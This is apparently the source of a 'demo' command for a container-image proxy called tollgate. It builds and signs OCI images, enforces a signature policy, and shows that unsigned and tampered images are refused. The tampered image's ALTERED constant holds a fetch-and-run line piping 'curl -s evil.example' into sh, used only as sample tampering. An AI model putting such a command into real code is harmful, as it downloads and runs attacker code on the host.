import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Command } from 'commander';
import {
  buildImage,
  diffImages,
  encryptCosignPrivateKey,
  generateKeyPair,
  OciLayoutWriter,
  openImage,
  publicVerificationKey,
  readPrivateKey,
  signLayoutImage,
  type BuildLayer,
  type ImageManifest,
} from '@tollgate/core';
import type { AuditEvent } from '@tollgate/proxy';
import { writeOut } from '../output/write.js';
import { ExitCode } from '../exit-codes.js';
import { withStatus } from '../run-status.js';

/** fastify and the proxy load only when the demo runs. */
const proxyModule = () => import('@tollgate/proxy');

interface DemoFlags {
  dir?: string;
  keep: boolean;
}

const MANIFEST_ACCEPT = 'application/vnd.oci.image.manifest.v1+json, application/vnd.oci.image.index.v1+json';

/** The offline tour: a signed image is admitted, an unsigned one and an altered copy of the signed one are not. */
export function demoCommand(): Command {
  return new Command('demo')
    .description('an offline tour: build and sign images, start the proxy with a policy, pull a signed, an unsigned and an altered image, and read the audit trail')
    .option('--dir <dir>', 'where to write the demo layout, keys, policy and proxy data (default: a new temporary directory)')
    .option('--keep', 'keep the demo directory afterwards', false)
    .addHelpText(
      'after',
      `
Everything happens on this machine, in a temporary directory, in a few seconds: two images are built into an OCI
layout, one is signed with a throwaway key, and the proxy serves the layout on a loopback port under a policy that
requires that key. Then three pulls through the proxy's /v2/ API, and the audit trail. Nothing to install or
configure: Node is enough.

Exit status: 0 when every step behaved as designed, 1 when one did not.

Examples:
  tollgate demo
  tollgate demo --dir ./demo --keep     # keep the layout, keys, policy and proxy data to look at`,
    )
    .action(
      withStatus(async (flags: DemoFlags) => {
        const dir = flags.dir ?? (await mkdtemp(join(tmpdir(), 'tollgate-demo-')));
        try {
          return await runDemo(dir);
        } finally {
          if (!flags.keep && !flags.dir) await rm(dir, { recursive: true, force: true });
        }
      }),
    );
}

const BASE: BuildLayer = {
  createdBy: 'base files',
  files: [
    { path: 'etc/', type: 'dir' },
    { path: 'etc/os-release', content: 'NAME="tollgate demo"\nID=demo\n' },
    { path: 'etc/passwd', content: 'root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/app:/bin/sh\n' },
  ],
};

function appLayer(server: string): BuildLayer {
  return {
    createdBy: 'application',
    files: [
      { path: 'app/', type: 'dir', uid: 1000, gid: 1000 },
      { path: 'app/server.js', content: server, uid: 1000, gid: 1000 },
      { path: 'app/config.json', content: '{"listen": 8080}\n', uid: 1000, gid: 1000 },
    ],
  };
}

const SERVER = 'console.log("hello from the demo app");\n';
const ALTERED = 'console.log("hello from the demo app");\nrequire("child_process").exec("curl -s evil.example | sh");\n';

interface PullOutcome {
  status: number;
  digest?: string;
  blobs?: number;
  denied?: { message: string; rule?: string; reasons: string[] };
}

async function runDemo(dir: string): Promise<number> {
  const say = (text = '') => writeOut(text);
  const layout = join(dir, 'layout');
  const config = { config: { User: '1000', Entrypoint: ['node', '/app/server.js'], WorkingDir: '/app' } };

  say('== 1. Build two small images into an OCI layout');
  const writer = await OciLayoutWriter.create(layout);
  const app = await buildImage(writer, { tag: '1.0', layers: [BASE, appLayer(SERVER)], config });
  const tool = await buildImage(writer, { tag: '0.9', layers: [BASE, { createdBy: 'tool', files: [{ path: 'usr/local/bin/tool', content: '#!/bin/sh\necho tool\n', mode: 0o755 }] }], config });
  say(`   app:1.0   ${app.descriptor.digest}`);
  say(`   tool:0.9  ${tool.descriptor.digest}`);

  say('\n== 2. Generate a throwaway key pair and sign app:1.0 (the signature is stored in the layout, cosign v3 format)');
  const generated = generateKeyPair('ecdsa-p256');
  await writeFile(join(dir, 'cosign.key'), await encryptCosignPrivateKey(generated, '', { scryptN: 32768 }), { mode: 0o600 });
  await writeFile(join(dir, 'cosign.pub'), publicVerificationKey(generated).pem);
  const key = await readPrivateKey(await readFile(join(dir, 'cosign.key')), '');
  const signed = await signLayoutImage(writer, '1.0', { key });
  say(`   ${join(dir, 'cosign.key')} (empty password), cosign.pub`);
  say(`   signed ${signed.digest}: referrer ${signed.referrer} under tag ${signed.fallbackTag.slice(0, 20)}…`);

  say('\n== 3. A copy of app:1.0 with one file altered (as if someone patched it after signing)');
  const altered = await buildImage(writer, { tag: '1.0-patched', layers: [BASE, appLayer(ALTERED)], config });
  say(`   app:1.0-patched  ${altered.descriptor.digest}  (not signed)`);

  const policyFile = join(dir, 'policy.yaml');
  await writeFile(
    policyFile,
    `apiVersion: tollgate.dev/v1alpha1
kind: ImagePolicy
default: deny
rules:
  - name: signed-by-demo-key
    images: ["demo.oci/**"]
    authorities:
      - name: demo-key
        key: {file: cosign.pub}
        transparencyLog: ignore   # offline: the throwaway key's signatures are not in a public log
    checks:
      nonRootUser: true
`,
  );
  say('\n== 4. Start the proxy on a loopback port: the layout is its upstream, the policy its gate');
  say('   policy: images from demo.oci/** must be signed by cosign.pub and must not run as root; anything else is denied');
  const { createLogger, createProxy, loadGate, normalizeProxyConfig } = await proxyModule();
  const proxyConfig = normalizeProxyConfig(
    { listen: '127.0.0.1:0', dataDir: join(dir, 'proxy-data'), logLevel: 'silent', upstreams: [{ name: 'demo', oci: layout, default: true }], gate: { policy: policyFile } },
    { baseDir: dir, env: {} },
  );
  const gate = (await loadGate(proxyConfig.gate, proxyConfig.upstreams))!;
  const proxy = await createProxy(proxyConfig, { gate, logger: createLogger('silent'), env: {} });
  let ok = true;
  try {
    const { url } = await proxy.listen();
    say(`   ${url}  (policy revision ${gate.revision.slice(0, 19)}…)`);

    say('\n== 5. Pull app:1.0 (signed)');
    const first = await pull(url, 'app', '1.0');
    report(say, first);
    ok &&= first.status === 200 && first.digest === app.descriptor.digest;

    say('\n== 6. Pull tool:0.9 (unsigned)');
    const second = await pull(url, 'tool', '0.9');
    report(say, second);
    ok &&= second.status === 403 && second.denied?.rule === 'signed-by-demo-key';

    say('\n== 7. Pull app:1.0-patched (the signed image with one file altered)');
    const third = await pull(url, 'app', '1.0-patched');
    report(say, third);
    ok &&= third.status === 403 && third.denied?.rule === 'signed-by-demo-key';
    const diff = await diffImages(await openImage(`oci:${layout}:1.0`), await openImage(`oci:${layout}:1.0-patched`));
    say('   what changed from app:1.0 to app:1.0-patched:');
    for (const file of diff.files) say(`     ${file.kind.padEnd(8)} ${file.path}  (${file.changes.join(', ')})`);
    ok &&= diff.files.length === 1 && diff.files[0]!.path === '/app/server.js' && diff.files[0]!.kind === 'modified';

    say('\n== 8. The audit trail (oldest first)');
    const events = (await proxy.core.meta.listAudit(100)).filter((e) => e.type === 'verdict').reverse();
    for (const event of events) say(`   ${auditLine(event)}`);
    ok &&= events.filter((e) => e.verdict === 'allow').length >= 1 && events.filter((e) => e.verdict === 'deny').length === 2;
  } finally {
    await proxy.close();
  }
  say(
    ok
      ? '\nThe signed image was served byte for byte; the unsigned image and the altered copy were refused, with the rule, the reason and the changed file named.'
      : '\nUNEXPECTED: the demo did not behave as designed; please report this.',
  );
  return ok ? ExitCode.Ok : ExitCode.CheckFailed;
}

/** Pulls a manifest and its blobs through the proxy's /v2/ API, checking every digest; or reads the denial. */
async function pull(base: string, repository: string, tag: string): Promise<PullOutcome> {
  const response = await fetch(`${base}/v2/${repository}/manifests/${tag}`, { headers: { accept: MANIFEST_ACCEPT } });
  const bytes = new Uint8Array(await response.arrayBuffer());
  if (response.status !== 200) {
    const body = JSON.parse(Buffer.from(bytes).toString('utf8')) as { errors?: Array<{ code?: string; message?: string; detail?: { rule?: string; reasons?: string[] } }> };
    const error = body.errors?.[0];
    return { status: response.status, denied: { message: error?.message ?? `HTTP ${response.status}`, ...(error?.detail?.rule ? { rule: error.detail.rule } : {}), reasons: error?.detail?.reasons ?? [] } };
  }
  const digest = sha256(bytes);
  if (response.headers.get('docker-content-digest') !== digest) throw new Error(`the proxy served manifest bytes that digest to ${digest}, not ${response.headers.get('docker-content-digest')}`);
  const manifest = JSON.parse(Buffer.from(bytes).toString('utf8')) as ImageManifest;
  let blobs = 0;
  for (const descriptor of [manifest.config, ...manifest.layers]) {
    const blob = await fetch(`${base}/v2/${repository}/blobs/${descriptor.digest}`);
    const content = new Uint8Array(await blob.arrayBuffer());
    if (blob.status !== 200 || sha256(content) !== descriptor.digest) throw new Error(`blob ${descriptor.digest} did not arrive intact (HTTP ${blob.status})`);
    blobs++;
  }
  return { status: 200, digest, blobs };
}

function report(say: (text?: string) => void, outcome: PullOutcome): void {
  if (outcome.status === 200) {
    say(`   ADMITTED  ${outcome.digest}: manifest and ${outcome.blobs} blobs received, every digest checked`);
    return;
  }
  say(`   DENIED (HTTP ${outcome.status}) by rule ${outcome.denied?.rule ?? '?'}`);
  for (const reason of outcome.denied?.reasons ?? [outcome.denied?.message ?? '']) say(`     - ${reason}`);
}

function auditLine(event: AuditEvent): string {
  const time = event.time ?? new Date(event.at).toISOString();
  const what = `${event.repository}:${event.reference}`;
  const reason = event.reasons?.[0] ?? '';
  return `${time}  ${String(event.verdict).toUpperCase().padEnd(5)}  ${what.padEnd(16)}  ${String(event.digest).slice(0, 19)}…  rule ${event.rule}  ${reason.length > 90 ? `${reason.slice(0, 90)}…` : reason}`;
}

function sha256(bytes: Uint8Array): string {
  return `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
}
